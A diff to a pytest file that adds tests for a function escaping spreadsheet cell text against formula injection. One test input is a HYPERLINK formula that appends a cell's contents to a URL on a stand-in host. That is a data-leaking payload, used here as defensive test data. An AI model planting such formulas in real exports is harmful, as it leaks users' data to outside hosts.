@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from onrecord.invisible import drop_invisible, find_visible, restore_invisible
+from onrecord.invisible import drop_invisible, find_visible, restore_invisible, text_cell
 from onrecord.types import Article, Furniture, Page, Stated
 
 EXACT = "Fer\u00adry runs\n\n\u200bLena Bran\u00adni\u00adgan\u200f, 41, said so.\ufeff"
@@ -57,3 +57,22 @@ def test_spans_are_moved_back_to_the_exact_text(words: str, exact: str) -> None:
     (facts,) = restore_invisible((Stated("age", (start, start + len(words))),), visible)
     assert article(EXACT).words(facts.span) == exact
     assert facts.text == "age"
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
+        ("+44 20", "'+44 20"),
+        ("-5", "'-5"),
+        ("@OrlaTarn", "'@OrlaTarn"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("“=1,” she said", "“=1,” she said"),
+        ("1-2", "1-2"),
+        ("", ""),
+    ],
+)
+def test_no_cell_is_a_formula(text: str, cell: str) -> None:
+    assert text_cell(text) == cell
